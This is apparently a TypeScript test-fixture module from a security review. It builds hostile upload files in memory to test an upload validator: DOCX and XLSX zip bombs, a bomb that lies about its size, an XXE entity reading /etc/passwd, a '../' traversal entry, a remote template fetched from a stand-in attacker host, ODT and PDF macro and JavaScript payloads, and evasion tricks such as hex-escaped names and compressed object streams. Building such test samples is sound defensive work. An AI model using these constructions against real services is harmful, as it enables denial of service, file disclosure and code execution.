import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { deflatedEntry, type RawZipEntry, storedEntry, writeZip } from './tiny-zip.ts'

/**
 * The hostile uploads of the security review (issue 11, item 13), built in memory in a few
 * hundred milliseconds: no file on disk, and a "bomb" is never inflated here. A deflate
 * stream of zeros is built once for 8 MiB with a full flush (so the block stands alone) and
 * repeated, then closed with an empty final block: 200 MiB of zeros come to about 199 KiB.
 */

const BLOCK = 8 * 1024 * 1024
let zeroBlock: { deflated: Buffer; crcOf: Map<number, number> } | undefined

function zeroBlockDeflated(): { deflated: Buffer; crcOf: Map<number, number> } {
  zeroBlock ??= {
    deflated: deflateRawSync(Buffer.alloc(BLOCK), {
      level: 9,
      memLevel: 9,
      finishFlush: constants.Z_FULL_FLUSH,
    }),
    crcOf: new Map(),
  }
  return zeroBlock
}

/** `size` bytes of zeros (a multiple of 8 MiB) as a raw deflate stream, with its CRC-32. */
export function deflatedZeros(size: number): { data: Uint8Array; crc32: number } {
  if (size % BLOCK !== 0) throw new Error('deflatedZeros: size must be a multiple of 8 MiB')
  const { deflated, crcOf } = zeroBlockDeflated()
  const blocks = size / BLOCK
  let crc = crcOf.get(blocks)
  if (crc === undefined) {
    const zeros = Buffer.alloc(BLOCK)
    crc = 0
    for (let i = 0; i < blocks; i++) crc = crc32(zeros, crc)
    crcOf.set(blocks, crc)
  }
  const data = new Uint8Array(deflated.length * blocks + 2)
  for (let i = 0; i < blocks; i++) data.set(deflated, i * deflated.length)
  data.set([0x03, 0x00], deflated.length * blocks) // the final, empty, fixed-Huffman block
  return { data, crc32: crc }
}

export const MiB = 1024 * 1024
export const GiB = 1024 * MiB

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const PKG = 'http://schemas.openxmlformats.org/package/2006'

function contentTypes(overrides: [part: string, type: string][]): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="${PKG}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.map(([p, t]) => `<Override PartName="/${p}" ContentType="${t}"/>`).join('')}</Types>`
}

const DOCX_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PKG}/relationships"><Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`

export function documentXml(body = 'فرم درخواست'): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}"><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`
}

function relsOf(rels: string[]): string {
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="${PKG}/relationships">${rels.join('')}</Relationships>`
}

/** A well-formed, deflated Word package, with `extra` parts and overrides added. */
export function deflatedDocx(
  options: {
    document?: string
    extra?: RawZipEntry[]
    overrides?: [string, string][]
    mainType?: string
    documentRels?: string[]
  } = {},
): Uint8Array {
  return writeZip([
    deflatedEntry(
      '[Content_Types].xml',
      contentTypes([
        ['word/document.xml', options.mainType ?? DOCX_MAIN],
        ...(options.overrides ?? []),
      ]),
    ),
    deflatedEntry('_rels/.rels', ROOT_RELS),
    deflatedEntry('word/document.xml', options.document ?? documentXml()),
    deflatedEntry(
      'word/_rels/document.xml.rels',
      relsOf(
        options.documentRels ?? [
          `<Relationship Id="rId9" Type="${R}/hyperlink" Target="https://my.gov.ir/" TargetMode="External"/>`,
        ],
      ),
    ),
    ...(options.extra ?? []),
  ])
}

/** The reviewed "199 KiB DOCX expanding to 200 MiB": a document part of 200 MiB of zeros. */
export function docxBomb(): Uint8Array {
  const zeros = deflatedZeros(200 * MiB)
  const padding: RawZipEntry = {
    name: 'word/media/padding.bin',
    method: 8,
    data: zeros.data,
    crc32: zeros.crc32,
    size: 200 * MiB,
  }
  return deflatedDocx({ extra: [padding] })
}

/** The reviewed XLSX expanding to 1 GiB: one worksheet of 1 GiB. */
export function xlsxBomb(): Uint8Array {
  const zeros = deflatedZeros(GiB)
  const ss = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
  return writeZip([
    deflatedEntry(
      '[Content_Types].xml',
      contentTypes([
        [
          'xl/workbook.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        ],
        [
          'xl/worksheets/sheet1.xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
        ],
      ]),
    ),
    deflatedEntry(
      'xl/workbook.xml',
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${ss}" xmlns:r="${R}"><sheets><sheet name="1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    {
      name: 'xl/worksheets/sheet1.xml',
      method: 8,
      data: zeros.data,
      crc32: zeros.crc32,
      size: GiB,
    },
  ])
}

/**
 * A bomb that lies: its document part declares 2,000 bytes (no ratio to notice) but inflates
 * to 16 MiB of zeros. Only inflating — and stopping at the declared size — finds it.
 */
export function docxLyingAboutSize(): Uint8Array {
  const zeros = deflatedZeros(16 * MiB)
  const liar: RawZipEntry = {
    name: 'word/media/image1.png',
    method: 8,
    data: zeros.data,
    crc32: zeros.crc32,
    size: 2000,
  }
  return deflatedDocx({ extra: [liar] })
}

/** The reviewed macro DOCX: a VBA project and the macro-enabled main type. */
export function docxWithMacro(): Uint8Array {
  return deflatedDocx({
    mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    overrides: [['word/vbaProject.bin', 'application/vnd.ms-office.vbaProject']],
    extra: [
      deflatedEntry('word/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3])),
    ],
  })
}

/** The reviewed XXE DOCX: an external entity read into the document. */
export function docxWithExternalEntity(): Uint8Array {
  const doc = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>`
  return deflatedDocx({ document: doc })
}

/** The reviewed `../` DOCX: an entry that extracts outside its folder. */
export function docxWithTraversal(name = '../../../tmp/evil.sh'): Uint8Array {
  return deflatedDocx({ extra: [deflatedEntry(name, '#!/bin/sh\necho owned\n')] })
}

/** Remote template injection: Word fetches the template (with its macros) on opening. */
export function docxWithRemoteTemplate(
  targetMode = 'External',
  target = 'http://attacker.invalid/t.dotm',
): Uint8Array {
  return deflatedDocx({
    extra: [
      deflatedEntry(
        'word/_rels/settings.xml.rels',
        relsOf([
          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="${target}" TargetMode="${targetMode}"/>`,
        ]),
      ),
    ],
  })
}

/** An OpenDocument text with a Basic library (and its `mimetype` first and stored). */
export function odtWithBasic(): Uint8Array {
  return writeZip([
    storedEntry('mimetype', 'application/vnd.oasis.opendocument.text'),
    deflatedEntry(
      'content.xml',
      '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:scripts/></office:document-content>',
    ),
    deflatedEntry(
      'Basic/Standard/Module1.xml',
      '<script:module script:name="Module1">Sub Main\nShell("calc")\nEnd Sub</script:module>',
    ),
    deflatedEntry(
      'META-INF/manifest.xml',
      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    ),
  ])
}

/** An OpenDocument text whose content binds a macro to an event (no library needed). */
export function odtWithEventMacro(): Uint8Array {
  return writeZip([
    storedEntry('mimetype', 'application/vnd.oasis.opendocument.text'),
    deflatedEntry(
      'content.xml',
      '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text><text:a xlink:href="#"><office:event-listeners><script:event-listener script:event-name="dom:mouseover" xlink:href="&#118;nd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&amp;location=share"/></office:event-listeners></text:a></office:text></office:body></office:document-content>',
    ),
    deflatedEntry(
      'META-INF/manifest.xml',
      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    ),
  ])
}

function latin1(s: string): Uint8Array {
  return Uint8Array.from(s, (ch) => ch.charCodeAt(0) & 0xff)
}

/** A small PDF made of the given object bodies (offsets not exact: readers recover). */
export function pdfOf(objects: string[], trailer = '/Root 1 0 R'): Uint8Array {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'
  objects.forEach((o, i) => {
    body += `${i + 1} 0 obj\n${o}\nendobj\n`
  })
  body += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\n%%EOF\n`
  return latin1(body)
}

const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
]

export const pdfPlain = () =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', ...PAGES])
export const pdfOpenActionJs = () =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    ...PAGES,
    '<< /Type /Action /S /JavaScript /JS (app.alert\\("x"\\)) >>',
  ])
/** JavaScript under a hex-escaped name: `/J#61vaScript` is `/JavaScript`. */
export const pdfEscapedJs = () =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (this.print\\(\\)) >> >>',
    ...PAGES,
  ])
export const pdfLaunch = () =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>', ...PAGES])
export const pdfEmbeddedFile = () =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
    ...PAGES,
    '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ])

/**
 * JavaScript hidden in a compressed object stream (PDF 1.5): nothing in the file's bytes
 * names it, and the stream does not even say `/Type /ObjStm`.
 */
export function pdfJsInObjectStream(): Uint8Array {
  const inner = '4 0\n<< /S /JavaScript /JS (app.launchURL\\("http://x"\\)) >>'
  const packed = Buffer.from(deflateSync(Buffer.from(inner, 'latin1'))).toString('latin1')
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
    ...PAGES,
    `<< /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`,
  ])
}
